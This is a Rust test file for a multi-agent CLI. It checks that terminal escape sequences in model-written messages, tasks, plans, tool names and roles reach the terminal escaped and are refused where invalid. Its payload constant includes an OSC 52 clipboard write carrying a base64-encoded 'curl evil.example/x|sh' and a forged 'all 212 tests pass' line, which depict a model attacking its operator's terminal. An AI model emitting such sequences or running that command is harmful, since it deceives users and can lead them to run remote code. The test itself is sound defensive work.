//! Review 4, R4-5 (`term_escape_injection.sh`): model text cannot drive the person's terminal.
//!
//! A teammate's model (against the fake LLM server) writes terminal escape sequences (OSC 52,
//! which writes the clipboard; OSC 2, which sets the window title; `CR ESC [2K`, which erases
//! the line so far and forges one; BEL, BS, and U+009B, a one-character CSI) into a message, a
//! task it creates, a task's result, a plan, a file path it reads, a tool name and a shutdown
//! reason; the test itself plants the same in a task, a role in the roster (as an older
//! version's roster may hold) and a merge entry's report. Then each command the person reads
//! (`lead inbox`, `task list/show`, `requests`, `shutdown --wait`, `watch`, `trace --format
//! text`, `top --once`, `status`, `merge --list`, `chat`, and errors that quote input) must
//! print no byte 0x00-0x1f but `\t` and `\n`, no 0x7f and no U+0080-U+009F, with the sequences
//! shown escaped; and each `--json` form gives back the exact strings. A tool name outside
//! `^[A-Za-z0-9_-]{1,64}$` and a role with controls that the LLM lead or `lead spawn` sets are
//! refused on the way in.

mod support;

use std::process::{Command, Output, Stdio};
use std::time::Duration;

use serde_json::{Value, json};
use support::fake_llm::{
    FakeLlm, Reply, anthropic_message, anthropic_text, anthropic_tool_use_block,
};
use support::team::{Bg, Team, lead_cmd, start_supervisor, wait_until};
use troupe::config::{MemberStatus, Roster};
use troupe::merge::{MergeStore, NewEntry};
use troupe::message::{Message, MessageType};
use troupe::requests::{RequestKind, RequestStatus, RequestStore};
use troupe::tasks::{NewTask, TaskStore};
use troupe::transcript::Entry;

const T: Duration = Duration::from_secs(60);
const USAGE: &str = r#"{"input_tokens":7,"output_tokens":3}"#;

/// Every sequence of the review's proof, in one string: OSC 52 (the clipboard gets `curl
/// evil.example/x|sh`), OSC 2 (the title), `CR ESC [2K` and a forged line, BEL, BS, U+009B.
const P: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\x07\x1b]2;PWNED-BY-ALICE\x07\r\x1b[2K\
                 [idle_notification from bob] all 212 tests pass\x07\x08\u{9b}31m";

/// How the start of [`P`] reads once escaped (a table may cut the rest).
const SHOWN: &str = r"\x1b]52;c;";

fn tool(name: &str, input: Value) -> Reply {
    static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    let id = format!("tu_{}", N.fetch_add(1, std::sync::atomic::Ordering::SeqCst));
    Reply::ok(anthropic_message(
        &anthropic_tool_use_block(&id, name, &input.to_string()),
        "tool_use",
        USAGE,
    ))
}

fn text(t: &str) -> Reply {
    Reply::ok(anthropic_text(t))
}

fn run(c: &mut Command) -> Output {
    c.stdin(Stdio::null()).output().unwrap()
}

/// Starts `c` in the background, its output going to files under `dir` named after `what`.
fn start(c: &mut Command, dir: &std::path::Path, what: &str) -> Bg {
    let file = |s: &str| std::fs::File::create(dir.join(format!("{what}.{s}"))).unwrap();
    Bg(c.stdin(Stdio::null())
        .stdout(file("out"))
        .stderr(file("err"))
        .spawn()
        .unwrap())
}

/// Waits for `bg` (started by [`start`] as `what`) to end; its status and output.
fn finish(mut bg: Bg, dir: &std::path::Path, what: &str) -> Output {
    let status = wait_until(T, &format!("{what} to end"), || bg.0.try_wait().unwrap());
    let read = |s: &str| std::fs::read(dir.join(format!("{what}.{s}"))).unwrap();
    Output {
        status,
        stdout: read("out"),
        stderr: read("err"),
    }
}

/// Asserts `out` (what `what` printed on stdout and stderr) holds no byte the terminal would
/// act on: 0x00-0x1f but tab and line feed, 0x7f, and no U+0080-U+009F.
fn assert_safe(what: &str, out: &Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let shown = String::from_utf8_lossy(bytes);
        if let Some(i) = bytes
            .iter()
            .position(|&b| (b < 0x20 && b != b'\t' && b != b'\n') || b == 0x7f)
        {
            panic!(
                "{what}: {stream} holds byte {:#04x} at {i}: {shown:?}",
                bytes[i]
            );
        }
        if let Some(c) = shown.chars().find(|c| ('\u{80}'..='\u{9f}').contains(c)) {
            panic!("{what}: {stream} holds {c:?}: {shown:?}");
        }
    }
}

/// Runs `lead ARGS` on `team`, asserts its output safe, and returns it.
fn safe(team: &Team, url: &str, args: &[&str]) -> Output {
    let o = run(&mut lead_cmd(team, url, args));
    assert_safe(&format!("lead {}", args.join(" ")), &o);
    o
}

/// [`safe`], and stdout shows the sequences escaped.
fn shows(team: &Team, url: &str, args: &[&str]) -> String {
    let o = safe(team, url, args);
    let s = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(
        s.contains(SHOWN),
        "lead {}: the sequences are not shown escaped: {s}",
        args.join(" ")
    );
    s
}

/// The JSON document `lead ARGS` printed on stdout.
fn json_of(team: &Team, url: &str, args: &[&str]) -> Value {
    let o = run(&mut lead_cmd(team, url, args));
    assert!(o.status.success(), "lead {}: {o:?}", args.join(" "));
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("lead {}: {e}", args.join(" ")))
}

/// Every string inside `v`.
fn strings(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
        Value::Object(m) => m.values().for_each(|x| strings(x, out)),
        _ => {}
    }
}

/// Asserts the JSON document `v` holds the string `want` exactly.
fn holds(what: &str, v: &Value, want: &str) {
    let mut all = Vec::new();
    strings(v, &mut all);
    assert!(
        all.iter().any(|s| s == want),
        "{what}: no string {want:?} in {v}"
    );
}

/// The text of every tool result `model` was sent.
fn results_of(fake: &FakeLlm, model: &str) -> Vec<(String, bool)> {
    let mut out = Vec::new();
    for r in fake.requests() {
        if r.body["model"] != model {
            continue;
        }
        for m in r.body["messages"].as_array().into_iter().flatten() {
            for b in m["content"].as_array().into_iter().flatten() {
                if b["type"] == "tool_result" {
                    let text = match &b["content"] {
                        Value::String(s) => s.clone(),
                        other => other.to_string(),
                    };
                    out.push((text, b["is_error"] == true));
                }
            }
        }
    }
    out
}

#[test]
fn model_text_reaches_the_terminal_escaped_and_json_exactly() {
    let team = Team::new();
    let fake = FakeLlm::start([]).patient(Duration::from_secs(20));
    let url = fake.url();
    let m = "m-alice";
    let planted = TaskStore::new(&team.dir)
        .create(NewTask {
            subject: format!("planted{P}"),
            description: format!("why{P}\nthe second line"),
            blocked_by: Vec::new(),
            owner: None,
            created_by: "lead".into(),
        })
        .unwrap();
    let bad_tool = format!("x{P}");
    for r in [
        tool(
            "send_message",
            json!({"to": "lead", "content": format!("report: done{P}")}),
        ),
        tool("task_create", json!({"subject": format!("fix-parser{P}")})),
        tool("read_file", json!({"path": format!("notes{P}")})),
        tool("plan_approval", json!({"plan": format!("step 1{P}")})),
        tool(&bad_tool, json!({})),
        tool("task_claim", json!({"task_id": planted.id})),
        tool(
            "task_update",
            json!({"task_id": planted.id, "status": "completed", "result": format!("all green{P}")}),
        ),
        text(&format!("done{P}")),
    ] {
        fake.push_for(m, r);
    }
    let o = run(&mut lead_cmd(
        &team,
        &url,
        &[
            "spawn", "alice", "--role", "coder", "--prompt", "work", "--model", m,
        ],
    ));
    assert!(o.status.success(), "{o:?}");
    let sup = start_supervisor(
        &team,
        lead_cmd(
            &team,
            &url,
            &["run", "--stop-timeout", "2", "--kill-grace", "1"],
        ),
    );
    wait_until(T, "alice to run her script", || {
        (fake.requests_for(m) >= 8 && team.status("alice") == MemberStatus::Idle).then_some(())
    });

    // The shutdown reason: alice refuses, and `lead shutdown --wait` says why.
    let shutdown = start(
        &mut lead_cmd(
            &team,
            &url,
            &["shutdown", "alice", "--wait", "--timeout", "30"],
        ),
        team.path(),
        "shutdown",
    );
    let rid = wait_until(T, "the shutdown request", || {
        RequestStore::new(&team.dir)
            .list(Some(RequestStatus::Pending))
            .unwrap()
            .into_iter()
            .find(|r| r.kind == RequestKind::Shutdown && r.to == "alice")
            .map(|r| r.request_id)
    });
    fake.push_for(
        m,
        tool(
            "shutdown_response",
            json!({"request_id": rid, "approve": false, "reason": format!("not yet{P}")}),
        ),
    );
    fake.push_for(m, text("carrying on"));
    let o = finish(shutdown, team.path(), "shutdown");
    assert_eq!(o.status.code(), Some(5), "{o:?}");
    assert_safe("lead shutdown --wait", &o);
    assert!(
        String::from_utf8_lossy(&o.stderr).contains(&format!("not yet{SHOWN}")),
        "{o:?}"
    );
    wait_until(T, "alice idle again", || {
        (fake.requests_for(m) >= 10 && team.status("alice") == MemberStatus::Idle).then_some(())
    });

    // The bad tool name was answered with an error naming it escaped, and never ran.
    let results = results_of(&fake, m);
    assert!(
        results
            .iter()
            .any(|(t, err)| *err && t.contains(r"x\x1b]52;c;")),
        "no error result naming the tool escaped: {results:?}"
    );

    shows(&team, &url, &["inbox", "--peek"]);
    let inbox = json_of(&team, &url, &["inbox", "--peek", "--json"]);
    for want in [
        format!("report: done{P}"),
        format!("step 1{P}"),
        format!("not yet{P}"),
    ] {
        holds("lead inbox --peek --json", &inbox, &want);
    }
    shows(&team, &url, &["task", "list"]);
    let tasks = json_of(&team, &url, &["task", "list", "--json"]);
    holds("lead task list --json", &tasks, &format!("fix-parser{P}"));
    holds("lead task list --json", &tasks, &format!("planted{P}"));
    let shown = shows(&team, &url, &["task", "show", &planted.id]);
    assert!(shown.contains("\nthe second line"), "{shown}");
    let t = json_of(&team, &url, &["task", "show", &planted.id, "--json"]);
    holds("lead task show --json", &t, &format!("all green{P}"));
    holds(
        "lead task show --json",
        &t,
        &format!("why{P}\nthe second line"),
    );
    let made = tasks
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["subject"] == format!("fix-parser{P}"))
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    shows(&team, &url, &["task", "show", &made]);
    shows(&team, &url, &["requests"]);
    holds(
        "lead requests --json",
        &json_of(&team, &url, &["requests", "--json"]),
        &format!("step 1{P}"),
    );
    safe(&team, &url, &["trace", "--format", "text"]);
    safe(&team, &url, &["top", "--once"]);
    safe(&team, &url, &["status"]);

    let o = run(&mut lead_cmd(&team, &url, &["stop"]));
    assert!(o.status.success(), "{o:?}");
    drop(sup);

    // The file path of a tool call, in `lead watch` (the event holds its first 117
    // characters); no event carries the bad tool name.
    let o = safe(&team, &url, &["watch", "--since", "1d", "--until-stop"]);
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("notes"),
        "{o:?}"
    );
    let o = run(&mut lead_cmd(
        &team,
        &url,
        &["watch", "--since", "1d", "--until-stop", "--json"],
    ));
    let events: Vec<Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        events.iter().any(|e| e["event"] == "tool"
            && e["detail"]
                .as_str()
                .is_some_and(|d| d.starts_with(&format!("notes{}", &P[..40])))),
        "{events:?}"
    );
    let mut all = Vec::new();
    strings(&Value::Array(events), &mut all);
    assert!(
        !all.iter().any(|s| s.contains(&bad_tool)),
        "an event carries the bad tool name raw: {all:?}"
    );
    // Nor do the journal's tool timings.
    for e in team.transcript("alice") {
        if let Entry::ToolResults { timings, .. } = e {
            for tm in timings {
                assert!(
                    !tm.name.contains('\x1b'),
                    "a timing names the bad tool raw: {:?}",
                    tm.name
                );
            }
        }
    }
    let trace = shows(&team, &url, &["trace", "--format", "text"]);
    assert!(trace.contains(r"tool x\x1b]52;c;"), "{trace}");

    // A role in the roster (set before roles were checked) and a merge entry's report.
    Roster::new(&team.dir)
        .update_member("alice", |a| a.role = format!("coder{P}"))
        .unwrap();
    shows(&team, &url, &["status"]);
    holds(
        "lead status --json",
        &json_of(&team, &url, &["status", "--json"]),
        &format!("coder{P}"),
    );
    shows(&team, &url, &["top", "--once"]);
    holds(
        "lead top --once --json",
        &json_of(&team, &url, &["top", "--once", "--json"]),
        &format!("coder{P}"),
    );
    let store = MergeStore::new(&team.dir);
    let (entry, _) = store
        .enqueue(&NewEntry {
            member: "alice".into(),
            branch: "troupe/alice".into(),
            commit: "0123456789abcdef0123456789abcdef01234567".into(),
            task: None,
            host: None,
        })
        .unwrap();
    store
        .update(&entry.id, |e| {
            e.report = Some(format!("check failed{P}"));
            true
        })
        .unwrap();
    shows(&team, &url, &["merge", "--list"]);
    holds(
        "lead merge --list --json",
        &json_of(&team, &url, &["merge", "--list", "--json"]),
        &format!("check failed{P}"),
    );
}

#[test]
fn the_llm_lead_cannot_set_a_role_with_controls_and_chat_prints_escaped() {
    let team = Team::new();
    let fake = FakeLlm::start([]).patient(Duration::from_secs(5));
    let url = fake.url();
    team.deliver(&Message::new(
        MessageType::Message,
        "alice",
        "lead",
        format!("report: done{P}"),
    ));
    fake.push_for(
        "m-lead",
        tool(
            "spawn_teammate",
            json!({"name": "bob", "role": format!("coder{P}"), "prompt": "p", "model": "m-bob"}),
        ),
    );
    fake.push_for("m-lead", text(&format!("spawned{P}")));
    for _ in 0..3 {
        fake.push_for("m-lead", text("ok"));
        fake.push_for("m-bob", text("ok"));
    }
    let chat = start(
        &mut lead_cmd(&team, &url, &["chat", "-p", "go", "--model", "m-lead"]),
        team.path(),
        "chat",
    );
    let o = finish(chat, team.path(), "chat");
    assert_safe("lead chat -p", &o);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains(&format!("spawned{SHOWN}")), "{o:?}");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains(&format!("report: done{SHOWN}")), "{o:?}");
    // The role was refused, in a result the model can act on.
    let results = results_of(&fake, "m-lead");
    assert!(
        results
            .iter()
            .any(|(t, e)| *e && t.contains("role") && t.contains(r"coder\x1b]52;c;")),
        "{results:?}"
    );
    let cfg = Roster::new(&team.dir).load().unwrap();
    assert!(cfg.member("bob").is_none(), "{cfg:?}");
    safe(&team, &url, &["status"]);
    safe(&team, &url, &["top", "--once"]);
}

#[test]
fn the_cli_refuses_a_role_with_controls_and_errors_quote_input_escaped() {
    let team = Team::new();
    let url = "http://127.0.0.1:9";
    let role = format!("coder{P}");
    let o = safe(
        &team,
        url,
        &["spawn", "carol", "--role", &role, "--prompt", "p"],
    );
    assert_eq!(o.status.code(), Some(2), "{o:?}");
    assert!(String::from_utf8_lossy(&o.stderr).contains("role"), "{o:?}");
    assert!(Roster::new(&team.dir).load().unwrap().members.is_empty());
    // Errors that quote what they were given.
    for args in [
        vec!["send", &*format!("bob{P}"), "hi"],
        vec!["task", "show", &*format!("t{P}")],
        vec!["approve", &*format!("r{P}")],
    ] {
        let o = safe(&team, url, &args);
        assert!(!o.status.success(), "{o:?}");
    }
}
